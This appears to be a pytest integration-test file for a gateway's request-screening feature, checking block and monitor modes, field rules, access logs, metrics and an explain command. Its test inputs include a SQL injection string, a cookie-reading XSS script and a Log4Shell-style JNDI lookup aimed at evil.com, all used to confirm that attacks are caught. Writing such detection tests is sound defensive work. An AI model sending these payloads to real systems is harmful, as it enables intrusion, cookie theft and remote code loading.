"""Screening through a real gateway: block, monitor, field rules, problem+json, access log, metrics."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.support.screening_model import build_registry

from .conftest import Backends, Gateway, StartGateway, demo_config

SQLI = "1' OR '1'='1' --"
XSS = "<script>alert(document.cookie)</script>"


@pytest.fixture(scope="module")
def registry(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_registry(tmp_path_factory.mktemp("models"), ("v1", "v2"))


def screening_config(backends: Backends, registry: Path, log: Path | None = None, **settings: Any) -> dict[str, Any]:
    policies: list[dict[str, Any]] = [{"name": "metrics"}]
    if log is not None:
        policies.append({"name": "access_log", "config": {"sink": "file", "path": str(log), "flush_interval_s": 0.05}})
    policies.append({"name": "screening", "config": {"models_dir": str(registry), "version": "v1", "mode": "block",
                                                      **settings}})
    return demo_config(backends, policies=policies)


async def test_block_mode_blocks_attacks_and_passes_benign(demo_backends: Backends, start_gateway: StartGateway,
                                                          registry: Path, tmp_path: Path) -> None:
    log = tmp_path / "access.log"
    gw = await start_gateway(screening_config(demo_backends, registry, log))
    async with gw.http.post(f"{gw.url}/v1/echo", json={"message": "Hello, I'd like to order two books"}) as r:
        assert r.status == 200, await r.text()
    async with gw.http.post(f"{gw.url}/v1/echo", json={"message": SQLI}) as r:
        assert r.status == 403
        assert r.headers["Content-Type"] == "application/problem+json"
        problem = await r.json()
    assert set(problem) == {"type", "title", "status", "detail", "request_id", "category"}
    assert problem["request_id"] == r.headers["X-Request-Id"]
    assert problem["category"] != "anomalous-request"
    async with gw.http.get(f"{gw.url}/v1/items/abc", params={"verbose": "true"}) as r:
        assert r.status == 200
    async with gw.http.get(f"{gw.url}/v1/items/abc", headers={"User-Agent": "${jndi:ldap://evil.com/a}"}) as r:
        assert r.status == 403
    await _wait_for_lines(log, 4)
    lines = [json.loads(line) for line in log.read_text().splitlines()]
    blocked = [line for line in lines if line["status"] == 403]
    assert blocked and all(line["screening"]["verdict"] == "block" for line in blocked)
    assert all(line["screening"]["model"] == "request-screening/v1" for line in lines)
    assert all("top_features" in line["screening"] for line in lines)
    async with gw.http.get(f"{gw.admin}/metrics") as r:
        text = await r.text()
    assert 'portcullis_screening_decisions_total{route="echo.v1.EchoService.Echo",verdict="block"}' in text
    assert "portcullis_screening_batch_size_bucket" in text
    assert 'portcullis_screening_duration_seconds_count{route="echo.v1.EchoService.Echo"}' in text


async def test_batched_inference_decides_like_inline(demo_backends: Backends, start_gateway: StartGateway,
                                                     registry: Path, tmp_path: Path) -> None:
    log = tmp_path / "access.log"
    gw = await start_gateway(screening_config(demo_backends, registry, log, inference="batch", workers=2))
    durations = 'portcullis_screening_duration_seconds_count{route="echo.v1.EchoService.Echo"} '

    async def observed() -> float:  # the metrics are process-wide: other tests count too
        async with gw.http.get(f"{gw.admin}/metrics") as r:
            found = [line for line in (await r.text()).splitlines() if line.startswith(durations)]
        return float(found[0].split()[-1]) if found else 0.0

    before = await observed()
    async with gw.http.post(f"{gw.url}/v1/echo", json={"message": "Hello, I'd like to order two books"}) as r:
        assert r.status == 200, await r.text()
    async with gw.http.post(f"{gw.url}/v1/echo", json={"message": SQLI}) as r:
        assert r.status == 403
    await _wait_for_lines(log, 2)
    lines = [json.loads(line) for line in log.read_text().splitlines()]
    assert [line["screening"]["verdict"] for line in lines] == ["allow", "block"]
    assert await observed() == before + 2  # one observation per request, batched or not


async def test_monitor_mode_never_blocks(demo_backends: Backends, start_gateway: StartGateway, registry: Path,
                                         tmp_path: Path) -> None:
    log = tmp_path / "access.log"
    gw = await start_gateway(screening_config(demo_backends, registry, log, mode="monitor"))
    async with gw.http.post(f"{gw.url}/v1/echo", json={"message": XSS}) as r:
        assert r.status == 200
    await _wait_for_lines(log, 1)
    line = json.loads(log.read_text().splitlines()[0])
    assert line["screening"]["verdict"] == "flag"


async def test_field_rules_skip_and_own_threshold(demo_backends: Backends, start_gateway: StartGateway,
                                                  registry: Path) -> None:
    config = screening_config(demo_backends, registry)
    config["services"]["echo.v1.EchoService"]["methods"] = {
        "Echo": {"policies": {"screening": {"fields": {"body.message": {"skip": True}}}}},
        "GetItem": {"policies": {"screening": {"fields": {"path": {"threshold": 1.0}}}}},
    }
    gw = await start_gateway(config)
    async with gw.http.post(f"{gw.url}/v1/echo", json={"message": SQLI}) as r:
        assert r.status == 200  # a known free-text field, not screened on this route
    async with gw.http.post(f"{gw.url}/v1/echo", json={"message": "hi", "labels": {"q": SQLI}}) as r:
        assert r.status == 403  # the other fields still are
    async with gw.http.get(f"{gw.url}/v1/items/{XSS}") as r:
        assert r.status in (200, 404)  # the path has its own threshold (1.0): never blocked on it


async def test_per_route_mode_off(demo_backends: Backends, start_gateway: StartGateway, registry: Path) -> None:
    config = screening_config(demo_backends, registry)
    config["services"]["echo.v1.EchoService"]["policies"] = {"screening": {"mode": "off"}}
    gw = await start_gateway(config)
    async with gw.http.post(f"{gw.url}/v1/echo", json={"message": SQLI}) as r:
        assert r.status == 200
    async with gw.http.post(f"{gw.url}/v1/shelves", json={"theme": SQLI}) as r:
        assert r.status == 403


async def test_model_settings_cannot_vary_per_route(demo_backends: Backends, start_gateway: StartGateway,
                                                    registry: Path) -> None:
    config = screening_config(demo_backends, registry)
    config["services"]["echo.v1.EchoService"]["policies"] = {"screening": {"model": "other"}}
    with pytest.raises(ValueError, match="global only"):
        await start_gateway(config)


async def test_fail_closed_without_a_model(demo_backends: Backends, start_gateway: StartGateway,
                                           tmp_path: Path) -> None:
    config = screening_config(demo_backends, tmp_path / "empty", fail_open=True)
    gw = await start_gateway(config)
    async with gw.http.post(f"{gw.url}/v1/echo", json={"message": SQLI}) as r:
        assert r.status == 200  # fail_open: no model, requests pass and are counted
    async with gw.http.get(f"{gw.admin}/metrics") as r:
        assert 'portcullis_screening_fallbacks_total{outcome="allowed",reason="unavailable"}' in await r.text()


# The same requests through a running gateway and through `portcullis screening explain`: a JSON body
# with a default value the message drops (repeat: 0) and an unusual key, a path variable with a
# query-bound field, and an attack; the screened headers are sent alike.
EXPLAINED = (
    ("POST", "/v1/echo?note=a%20b", {"message": XSS, "repeat": 2, "labels": {"k": "v", "<b>": "x"}}),
    ("POST", "/v1/echo", {"message": "Hello, I'd like to order two books", "repeat": 0}),
    ("GET", "/v1/items/abc%20d?verbose=true", None),
    ("GET", "/v1/items/1%27%20OR%20%271%27%3D%271", None),
)
EXPLAIN_HEADERS = {"User-Agent": "portcullis-test/1.0", "Referer": "https://shop.example/basket?id=3"}


async def test_explain_scores_a_request_as_the_gateway_does(demo_backends: Backends, start_gateway: StartGateway,
                                                           registry: Path, tmp_path: Path) -> None:
    import asyncio
    import subprocess
    import sys

    from yarl import URL

    log = tmp_path / "access.log"
    config = screening_config(demo_backends, registry, log, mode="monitor")
    config["transcoding"] = {"reject_unknown_query_parameters": False}  # `note` is screened, not a field
    gw = await start_gateway(config)
    for method, target, body in EXPLAINED:
        headers = dict(EXPLAIN_HEADERS)
        if body is not None:
            headers["Content-Type"] = "application/json"
        data = json.dumps(body).encode() if body is not None else None
        async with gw.http.request(method, URL(f"{gw.url}{target}", encoded=True), data=data, headers=headers) as r:
            assert r.status in (200, 404), await r.text()
    await _wait_for_lines(log, len(EXPLAINED))
    served = [json.loads(line)["screening"] for line in log.read_text().splitlines()]
    assert any(note["verdict"] == "flag" for note in served)  # the attacks score high: equality means something
    for (method, target, body), note in zip(EXPLAINED, served, strict=True):
        argv = [sys.executable, "-m", "gateway", "screening", "explain", "--model",
                str(registry / "request-screening" / "v1"), "--descriptors", "echo.v1.echo_pb2,library.v1.library_pb2",
                "--output", "json", "--", "-X", method, f"http://localhost{target}"]
        for name, value in EXPLAIN_HEADERS.items():
            argv += ["-H", f"{name}: {value}"]
        if body is not None:
            argv += ["-H", "Content-Type: application/json", "-d", json.dumps(body)]
        done = await asyncio.to_thread(subprocess.run, argv, capture_output=True, text=True, timeout=120, check=False)
        assert done.returncode == 0, done.stderr
        explained = json.loads(done.stdout)
        assert round(explained["score"], 4) == note["score"], (target, explained["record"])
        assert explained["model"] == note["model"]


async def _wait_for_lines(path: Path, n: int) -> None:
    import asyncio

    for _ in range(100):
        if path.exists() and len(path.read_text().splitlines()) >= n:
            return
        await asyncio.sleep(0.05)
    raise AssertionError(f"{path}: fewer than {n} lines")


def _unused(gw: Gateway) -> None:  # keeps the Gateway import used for type checkers
    del gw
